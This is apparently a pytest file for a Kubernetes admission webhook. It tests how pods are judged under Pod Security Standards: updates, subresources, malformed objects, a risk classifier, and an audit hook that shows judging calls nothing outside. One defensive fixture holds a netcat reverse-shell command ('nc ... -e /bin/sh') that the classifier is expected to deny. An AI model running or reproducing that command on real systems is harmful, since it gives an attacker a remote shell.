"""The five steps together: recorded reviews, subresources, updates, and what cannot be understood."""

import json
import re
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from policies import config, registry
from policies.decision import Verdict
from tests.policies import examples
from tests.policies.examples import Examples
from tests.reviews import RECORDED, body, pod, privileged_pod, recorded, review
from webhook.admission import admit

BASELINE = config.of_profile("pss-baseline")
RESTRICTED = config.of_profile("pss-restricted")

# Recorded reviews whose objects pass the baseline level; all others that hold pods mount a path of the host.
WITHOUT_PODS = sorted(
    file.stem
    for file in RECORDED.glob("*.json")
    if file.stem.startswith(("connect-", "delete-"))
    or any(
        f"-{resource}" in file.stem
        for resource in ("clusterroles", "ingresses", "namespaces", "poddisruption", "rolebindings", "scale", "service")
    )
)
WITH_PODS = sorted({file.stem for file in RECORDED.glob("*.json")} - set(WITHOUT_PODS))


def denied_paths(content: dict[str, Any], policy: config.Policy = BASELINE) -> list[str]:
    """Where the message of the denial points, in order; nothing when it is allowed."""
    status = json.loads(admit(body(content), policy).body)["response"].get("status", {"message": ""})
    return [line.split(" ")[1] for line in status["message"].split("\n") if line]


@pytest.mark.parametrize("name", WITHOUT_PODS)
def test_a_recorded_review_without_a_pod_is_answered_at_once(name: str) -> None:
    content = recorded(name)
    answer = json.loads(admit(body(content), RESTRICTED).body)

    assert answer["response"] == {"uid": content["request"]["uid"], "allowed": True}


@pytest.mark.parametrize("name", WITH_PODS)
def test_a_recorded_review_with_a_pod_is_judged(name: str) -> None:
    content = recorded(name)
    admitted = admit(body(content), RESTRICTED)
    response = json.loads(admitted.body)["response"]

    assert response["uid"] == content["request"]["uid"]
    assert response["auditAnnotations"]["policy"] == f"pss-restricted@{RESTRICTED.hash}"
    # None of them is hardened: every creation is denied, and the update that adds a container.
    adds = content["request"]["operation"] == "CREATE" or name == "update-pods-ephemeralcontainers"
    assert admitted.decision.judged is (Verdict.DENY if adds else Verdict.ALLOW)


@pytest.mark.parametrize("subresource", ["ephemeralcontainers", "resize", "something-new"])
def test_any_subresource_that_carries_a_pod_is_judged(subresource: str) -> None:
    old = pod()
    new = pod(spec={"ephemeralContainers": [{"name": "debug", "securityContext": {"privileged": True}}]})

    paths = denied_paths(review(new, old=old, subResource=subresource))

    assert paths == ["spec.ephemeralContainers[0].securityContext.privileged"]


def test_a_status_is_not_judged_because_it_changes_nothing_that_runs() -> None:
    assert denied_paths(review(privileged_pod(), old=pod(), subResource="status")) == []


@pytest.mark.parametrize("operation", ["DELETE", "CONNECT"])
def test_deletion_and_connection_always_pass(operation: str) -> None:
    assert denied_paths(review(privileged_pod(), operation=operation)) == []
    assert denied_paths(review(None, old=privileged_pod(), operation=operation)) == []


class TestUpdates:
    def test_what_the_update_adds_is_denied(self) -> None:
        content = review(privileged_pod(), old=pod())

        assert denied_paths(content) == ["spec.containers[0].securityContext.privileged"]

    def test_what_was_there_before_is_recorded_and_not_held_against_it(self) -> None:
        labelled = privileged_pod()
        labelled["metadata"] = {**labelled["metadata"], "labels": {"team": "shop"}}
        response = json.loads(admit(body(review(labelled, old=privileged_pod())), BASELINE).body)["response"]

        assert response["allowed"] is True
        assert response["auditAnnotations"]["rules"] == "privileged"

    def test_only_the_addition_is_named(self) -> None:
        worse = privileged_pod()
        worse["spec"]["hostPID"] = True

        assert denied_paths(review(worse, old=privileged_pod())) == ["spec.hostPID"]

    @pytest.mark.parametrize(
        "policy", [BASELINE, RESTRICTED, config.of_profile("recommended")], ids=lambda one: one.name
    )
    @pytest.mark.parametrize(
        ("source", "other"),
        [
            ({"hostPath": {"path": "/var/log"}}, {"hostPath": {"path": "/"}}),
            ({"hostPath": {"path": "/" * 150 + "tmp"}}, {"hostPath": {"path": "/" * 150 + "etc"}}),
        ],
        ids=["another path", "a difference beyond what is shown"],
    )
    def test_another_value_is_not_what_was_there_before(
        self, policy: config.Policy, source: dict[str, Any], other: dict[str, Any]
    ) -> None:
        old, new = (pod(spec={"volumes": [{"name": "v", **each}]}) for each in (source, other))

        denied = denied_paths(review(new, old=old), policy)
        assert {path.removesuffix(".path") for path in denied} == {"spec.volumes[0].hostPath"}
        assert denied_paths(review(old, old=old), policy) == []

    def test_the_same_in_another_pod_of_the_object_is_new(self) -> None:
        def jobset(*privileged: bool) -> dict[str, Any]:
            jobs = [
                {"template": {"spec": {"template": {"spec": pod(securityContext={"privileged": each})["spec"]}}}}
                for each in privileged
            ]
            return {"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "spec": {"replicatedJobs": jobs}}

        paths = denied_paths(review(jobset(False, True), old=jobset(True, False)))

        assert paths == ["spec.replicatedJobs[1].template.spec.template.spec.containers[0].securityContext.privileged"]

    def test_a_creation_has_no_past_whatever_is_sent_with_it(self) -> None:
        content = review(privileged_pod(), old=privileged_pod(), operation="CREATE")

        assert denied_paths(content) == ["spec.containers[0].securityContext.privileged"]

    @pytest.mark.parametrize("old", [None, pod(securityContext={"privileged": "yes"}), [], 5, {"spec": {}}, {}])
    def test_an_old_object_that_cannot_be_understood_excuses_nothing(self, old: Any) -> None:
        content = review(privileged_pod(), operation="UPDATE", oldObject=old)

        assert denied_paths(content) == ["spec.containers[0].securityContext.privileged"]

    def test_a_policy_may_ask_to_judge_the_whole_object(self) -> None:
        policy = config.parse("{apiVersion: podgate.dev/v1alpha1, kind: GatePolicy, spec: {updates: all}}")
        content = review(privileged_pod(), old=privileged_pod())

        assert denied_paths(content, policy)[0] == "spec.containers[0].securityContext.privileged"


class TestRisk:
    POLICY = config.parse(
        "{apiVersion: podgate.dev/v1alpha1, kind: GatePolicy,"
        " spec: {profile: pss-baseline, classifier: {warnAt: 0.5, denyAt: 0.9}}}"
    )

    def answer(self, new: dict[str, Any], old: dict[str, Any] | None = None) -> dict[str, Any]:
        response: dict[str, Any] = json.loads(admit(body(review(new, old=old)), self.POLICY).body)["response"]
        return response

    def shell(self, *, team: str = "shop") -> dict[str, Any]:
        """No rule of the Pod Security Standards has anything to say of it."""
        found = pod(image="alpine", command=["sh", "-c", "nc 203.0.113.9 4444 -e /bin/sh"])
        return {**found, "metadata": {**found["metadata"], "labels": {"team": team}}}

    def test_it_denies_where_no_rule_does(self) -> None:
        response = self.answer(self.shell())

        assert response["allowed"] is False
        assert re.fullmatch(r"risk: spec looks dangerous \(risk 0\.\d\d\): .+", response["status"]["message"])
        assert "rules" not in response["auditAnnotations"]
        assert re.fullmatch(r"0\.9\d\d", response["auditAnnotations"]["risk"])
        assert response["auditAnnotations"]["model"] == self.POLICY.model

    def test_an_update_that_does_not_raise_it_is_recorded(self) -> None:
        response = self.answer(self.shell(team="other"), old=self.shell())

        assert response["allowed"] is True
        assert "warnings" not in response
        assert response["auditAnnotations"]["decision"] == "allow"
        assert response["auditAnnotations"]["risk"] == self.answer(self.shell())["auditAnnotations"]["risk"]

    def test_an_update_that_raises_it_is_denied(self) -> None:
        assert self.answer(self.shell(), old=pod())["allowed"] is False

    def test_an_update_that_lowers_it_is_not(self) -> None:
        assert self.answer(pod(), old=self.shell())["allowed"] is True


class TestUnreadable:
    @pytest.mark.parametrize(
        ("obj", "message"),
        [
            ([], "the object must be an object, not a list."),
            ({"metadata": 1}, "metadata must be an object, not a whole number."),
            (
                {"apiVersion": "apps/v1", "kind": "Deployment"},
                "kind says apps/Deployment, but the request is about Pod.",
            ),
            ({"apiVersion": "v1", "kind": "Pod"}, "spec is missing: without it this Pod cannot be judged."),
        ],
        ids=["a list", "metadata of a wrong type", "another kind", "no spec"],
    )
    def test_an_object_that_is_no_pod_is_refused(self, obj: Any, message: str) -> None:
        response = json.loads(admit(body({**review(pod(), object=obj)}), BASELINE).body)["response"]

        assert (response["allowed"], response["status"]["code"]) == (False, 422)
        assert response["status"]["message"].startswith(message)

    def test_a_wrong_type_is_refused_with_its_path(self) -> None:
        content = review(pod(securityContext={"privileged": "yes"}))
        response = json.loads(admit(body(content), BASELINE).body)["response"]

        assert response["allowed"] is False
        assert response["status"]["code"] == 422
        assert response["status"]["message"].startswith(
            "spec.containers[0].securityContext.privileged must be true or false, not a string."
        )

    @pytest.mark.parametrize(
        ("mode", "allowed", "warned"), [("enforce", False, False), ("warn", True, True), ("audit", True, False)]
    )
    def test_the_mode_softens_the_refusal_and_it_is_recorded(self, mode: str, allowed: bool, warned: bool) -> None:
        policy = config.parse(f"{{apiVersion: podgate.dev/v1alpha1, kind: GatePolicy, spec: {{mode: {mode}}}}}")
        content = review({"apiVersion": "v1", "kind": "Pod", "spec": None})
        response = json.loads(admit(body(content), policy).body)["response"]

        assert (response["allowed"], "warnings" in response) == (allowed, warned)
        assert response["auditAnnotations"]["error"] == "spec is missing: without it this Pod cannot be judged"

    def test_metadata_of_an_unreadable_object_may_change_so_that_finalizers_come_off(self) -> None:
        old = pod(securityContext={"privileged": "yes"})
        old["metadata"]["finalizers"] = ["example.com/wait"]
        response = json.loads(admit(body(review(pod(securityContext={"privileged": "yes"}), old=old)), BASELINE).body)

        assert response["response"]["allowed"] is True
        assert response["response"]["auditAnnotations"]["error"].startswith("spec.containers[0].securityContext")

    @pytest.mark.parametrize(
        "old",
        [pod(), pod(securityContext={"privileged": "no"}), [], None, pod(spec={"hostPID": "yes"})],
        ids=["readable before", "another value", "a list", "nothing", "unreadable elsewhere"],
    )
    def test_anything_else_of_an_unreadable_object_may_not(self, old: Any) -> None:
        content = review(pod(securityContext={"privileged": "yes"}), operation="UPDATE", oldObject=old)

        assert json.loads(admit(body(content), BASELINE).body)["response"]["allowed"] is False


def test_a_dry_run_gets_the_same_answer() -> None:
    dry, real = (admit(body(review(privileged_pod(), dryRun=dry)), BASELINE).body for dry in (True, False))

    assert dry == real


def test_a_deployment_is_denied_at_the_deployment_with_the_path_into_its_template() -> None:
    template = {"spec": privileged_pod()["spec"]}
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {}, "spec": {"template": template}}

    assert denied_paths(review(deployment)) == ["spec.template.spec.containers[0].securityContext.privileged"]


# What Python tells of whatever leaves the process, and of code that is made of text.
_OUTSIDE = ("socket.", "subprocess.", "os.", "open", "compile", "exec", "import", "ctypes.", "urllib.", "shutil.")
_told: list[str] | None = None


def _hear(event: str, arguments: tuple[Any, ...]) -> None:
    if _told is not None and event.startswith(_OUTSIDE):
        _told.append(f"{event} {arguments[:1]}")


@contextmanager
def overheard() -> Iterator[list[str]]:
    """What is done outside meanwhile."""
    global _told  # noqa: PLW0603 - an audit hook is for ever
    if not getattr(sys, "_podgate_hears", False):
        sys.addaudithook(_hear)
        sys._podgate_hears = True  # type: ignore[attr-defined]
    found = _told = []
    try:
        yield found
    finally:
        _told = None


def test_what_is_overheard_is_what_is_done(tmp_path: Any) -> None:
    with overheard() as found:
        (tmp_path / "file").write_text("")
        eval("1 + 1")  # noqa: S307 - what must never happen to input
    assert [each.split(" ")[0] for each in found] == ["open", "compile", "exec"]


def test_judging_opens_nothing_calls_nobody_and_runs_nothing() -> None:
    """SSRF, leaked tokens, and code by admission (CVE-2025-1974, CVE-2026-4789, CVE-2026-54725 of others): whatever an
    object says, and whoever asks, a verdict is made of what is in memory."""
    policy = config.of_profile("all")
    cases = [case for rule in registry.load() for case in (*Examples.of(rule).good, *Examples.of(rule).bad)]
    objects = [obj for obj in map(examples.obj, cases) if obj.get("kind")]
    bodies = [body(review(obj)) for obj in objects] + [body(recorded(name)) for name in WITH_PODS]
    for content in bodies:
        admit(content, policy)  # lists are read when they are needed first

    with overheard() as found:
        answers = [admit(content.replace(b"app", b"web"), policy) for content in bodies]
    assert found == []
    assert len({answer.decision.verdict for answer in answers}) == 2
